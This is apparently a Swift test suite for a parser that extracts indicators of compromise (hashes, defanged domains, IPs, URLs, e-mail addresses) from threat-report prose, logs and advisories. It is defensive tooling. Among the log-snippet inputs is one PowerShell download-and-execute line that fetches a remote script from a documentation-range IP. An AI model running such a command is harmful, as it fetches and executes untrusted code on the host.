import Interchange
import Testing

/// Whole passages in the shapes in which indicators reach analysts, written for these tests.
@Suite struct ReportTests {
  @Test("a table of a blog post, with file names and detection names between the indicators")
  func blogTable() throws {
    let text = """
      ## Indicators of Compromise

      The loader (`update.exe`, detected as Win64/Loader.CC) writes `C:\\ProgramData\\cache.dat` and runs `install.sh`.

      | SHA-256 | File name | First seen |
      |---------|-----------|------------|
      | `CA978112CA1BBDCAFAC231B39A23DC4DA786EFF8147C4E72B9807785AFEE48BB` | invoice.zip | 2026-03-01 |
      | 86f7e437faa5a7fce15d1ddcb9eaeaea377667b8 | setup.py | 2026-03-02 |

      | Domain | IP | Note |
      |--------|----|------|
      | cdn.evil[.]example | 198.51.100[.]7 | C2, AS64496 |
      | login-evil[.]test | 203.0.113[.]9:8443 | version 2.1.0.4 of the panel |
      """
    #expect(
      try foundInProse(text) == [
        "sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
        "sha1 86f7e437faa5a7fce15d1ddcb9eaeaea377667b8", "domain cdn.evil.example", "ipv4 198.51.100.7",
        "domain login-evil.test", "ipv4 203.0.113.9",
      ])
  }

  @Test("text copied from a PDF, one table cell a line and soft hyphens")
  func copiedFromPDF() throws {
    let text = """
      Table 2 – Network indicators\u{0C}
      Type
      Indicator
      Domain
      evil[.]example
      IPv4
      198[.]51[.]100[.]7
      URL
      hxxps://evil[.]example/upload[.]php?id=1
      MD5
      0cc175b9c0f1b6a831c399e269772661
      Page 2 of 3 • © 2026
      """
    #expect(
      try foundInProse(text) == [
        "domain evil.example", "ipv4 198.51.100.7", "url https://evil.example/upload.php?id=1",
        "md5 0cc175b9c0f1b6a831c399e269772661",
      ])
  }

  @Test("an advisory with its disclaimers and numbered sections")
  func advisory() throws {
    let text = """
      TLP:CLEAR   Product ID: AA26-001A
      1.2.3. Technical details. See section 4.1.2.
      Actors used PsExec v2.43 and AnyDesk (version 7.0.14.0, build 7.0.14.1) to reach 198.51.100[.]0/24 over 443/tcp.
      E-mails came from hr[at]evil[.]example and "billing@evil-invoices.test".
      Victims were sent to hxxp[:]//evil[.]example/a/b/, hxxp[:]//evil[.]example:8080/x; and finally to [2001[:]db8[:][:]5].
      """
    #expect(
      try foundInProse(text) == [
        "cidr 198.51.100.0/24", "email hr@evil.example", "email billing@evil-invoices.test",
        "url http://evil.example/a/b/", "url http://evil.example:8080/x", "ipv6 2001:db8::5",
      ])
  }

  @Test("a forwarded e-mail with its quotation marks and headers")
  func email() throws {
    let text = """
      > From: "Support" <support@evil.example>
      > Received: from mx1.evil.example ([198.51.100.7]) by mail.example.test with ESMTPS; Mon, 2 Mar 2026 10:11:12 +0100
      >> Click <https://evil.example/login?u=a%40b.test&amp;t=1> or call +49 30 123456.
      > Sent from my phone...see you
      """
    #expect(
      try foundInProse(text) == [
        "email support@evil.example", "domain mx1.evil.example", "ipv4 198.51.100.7", "domain mail.example.test",
        "url https://evil.example/login?u=a%40b.test&t=1",
      ])
  }

  @Test("snippets of JSON, YAML and logs")
  func snippets() throws {
    let text = """
      {"dst_ip":"198.51.100.7","dst_port":443,"url":"http:\\/\\/evil.example\\/a","sha1":"86F7E437FAA5A7FCE15D1DDCB9EAEAEA377667B8"}
      c2: [evil.example, "203.0.113.9"]
      198.51.100.8 - - [02/Mar/2026:10:11:12 +0100] "GET /index.php?u=http://evil.example/x HTTP/1.1" 200 1234 "-" "Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36"
      Mar  2 10:11:12 host sshd[123]: Failed password for root from 198.51.100.9 port 51413 ssh2
      time=2026-03-02T10:11:12Z src=198.51.100.10:51413 dst=203.0.113.1:53 query=a.evil.example. type=A
      powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.11/a.ps1')"
      """
    #expect(
      try foundInProse(text) == [
        "ipv4 198.51.100.7", "url http://evil.example/a", "sha1 86f7e437faa5a7fce15d1ddcb9eaeaea377667b8",
        "domain evil.example", "ipv4 203.0.113.9", "ipv4 198.51.100.8", "url http://evil.example/x",
        "ipv4 198.51.100.9",
        "ipv4 198.51.100.10", "ipv4 203.0.113.1", "domain a.evil.example", "url http://198.51.100.11/a.ps1",
      ])
  }

  @Test("links of AsciiDoc and Markdown that have a title are cited, bare ones are meant")
  func links() throws {
    let text = """
      The https://www.vendor.example[Vendor] report (https://vendor.example/report.pdf) and [ours](https://our.example/a_b).
      link:iocs.json[`iocs.json`] · image::map.png[] · <https://auto.example> · https://end.example/path.
      """
    #expect(
      try foundInProse(text) == [
        "url https://vendor.example/report.pdf", "url https://auto.example/", "url https://end.example/path",
      ])
  }
}
